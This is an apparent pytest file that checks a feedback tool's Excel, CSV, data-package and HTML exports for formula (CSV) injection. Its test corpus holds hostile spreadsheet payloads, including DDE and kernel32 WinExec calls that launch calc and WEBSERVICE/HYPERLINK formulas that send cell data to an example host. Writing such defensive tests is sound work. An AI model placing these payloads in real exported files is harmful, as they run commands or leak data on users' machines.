"""Two hundred texts that spreadsheets might work out go into every file that leaves, and none becomes a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from datetime import date
from itertools import product
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest

from bwvreview.domain.feedback import Feedback, IndividualAnswers
from bwvreview.domain.public_report import Period, public_report
from bwvreview.domain.sessions import ClipState, SessionId
from bwvreview.exchange.data_package import data_package
from bwvreview.exchange.excel_csv import write_excel_csv
from bwvreview.exchange.highlights_file import load_highlights
from bwvreview.exchange.panel_sheet import write_panel_sheet
from bwvreview.exchange.public_report import page_of
from bwvreview.exchange.safe_text import as_written
from bwvreview.exchange.workbook import write_workbook
from tests.feedback_kit import Void, a_feedback, line, observation, viewed

STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =",
    "\u00a0=", "\u200b=", "＝", "＋", "－", "＠", "'=", '"=', "{=", ";=", ",=",
    "|=",
)  # fmt: skip
PAYLOADS = (
    "1+1",
    'HYPERLINK("https://example.org/?"&A1,"Click")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://example.org/"&B2)',
    'IMPORTXML("https://example.org","//a")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'IMAGE("https://example.org/a.png")',
    'INDIRECT("A1")',
    'CALL("kernel32","WinExec","JFJ","calc",1)',
    'DDE("cmd";"/C calc";"x")',
)  # fmt: skip
CORPUS = [f"{start}{payload}" for start, payload in product(STARTS, PAYLOADS)]
STARTERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.fixture(scope="module")
def feedback() -> Feedback:
    clips = [viewed(f"V{at:03d}", "weapons", good_practice=text, summary=text) for at, text in enumerate(CORPUS, 1)]
    day = SessionId(date(2026, 12, 5), 1)
    lost = [
        observation(f"V{at}", ClipState.NOT_SHOWN, ("weapons",), reason=text) for at, text in enumerate(CORPUS, 300)
    ]
    return a_feedback(
        *clips,
        *lost,
        design=(line("weapons", 500, 200, tuple(clips)),),
        group_name=CORPUS[0],
        borough=CORPUS[1],
        excluded=tuple((text, 14) for text in CORPUS[:50]),
        voids=tuple(Void(day, "ab" * 32, text) for text in CORPUS[50:100]),
        individual=tuple(IndividualAnswers("V001", text, {"rag": text, "gowisely": text}) for text in CORPUS),
    )


def test_there_are_two_hundred_texts() -> None:
    assert len(set(CORPUS)) == 200


@pytest.mark.parametrize("write", [write_workbook, write_panel_sheet], ids=["workbook", "panel sheet"])
def test_no_cell_of_a_workbook_is_worked_out(
    write: Callable[[Feedback, Path], None], feedback: Feedback, tmp_path: Path
) -> None:
    path = tmp_path / "book.xlsx"
    write(feedback, path)
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = ET.fromstring(package.read(name))
                assert not [found for found in root.iter() if found.tag.endswith("}f")], name
                assert not [found for found in root.iter() if found.tag.endswith("}hyperlink")], name
        assert not [name for name in package.namelist() if re.search(r"externalLink|connections|vbaProject", name)]
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert {cell.data_type for cell in cells} == {"s"}
    risky = [cell for cell in cells if as_written(cell.value).startswith(STARTERS)]
    assert len(risky) >= len(CORPUS) // 2
    assert all(cell.style and cell.quotePrefix for cell in risky)


def test_no_cell_of_the_table_for_excel_starts_like_a_formula(feedback: Feedback, tmp_path: Path) -> None:
    path = tmp_path / "clips.csv"
    write_excel_csv(feedback, path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert len(rows) == len(CORPUS) + 1
    assert not [cell for row in rows for cell in row if cell.startswith(STARTERS)]


def test_the_data_tables_give_the_texts_back_as_they_were(feedback: Feedback) -> None:
    content = data_package(feedback, load_highlights())
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        rows = list(csv.DictReader(io.StringIO(package.read("clips.csv").decode("utf-8"), newline="")))
    assert [as_written(row["good_practice"]) for row in rows] == CORPUS


def test_the_public_page_holds_the_texts_as_text(feedback: Feedback) -> None:
    def made(texts: list[str]) -> str:
        period = Period(date(2026, 1, 1), date(2026, 12, 31), (feedback,), (), tuple(texts), tuple(texts), tuple(texts))
        return page_of(public_report(period, load_highlights(), group=texts[0], version="0.1.0"))

    tags = [re.findall("<[^>]*>", made(texts)) for texts in (CORPUS, [f"Sentence {at}" for at in range(200)])]
    assert sorted(tags[0]) == sorted(tags[1])
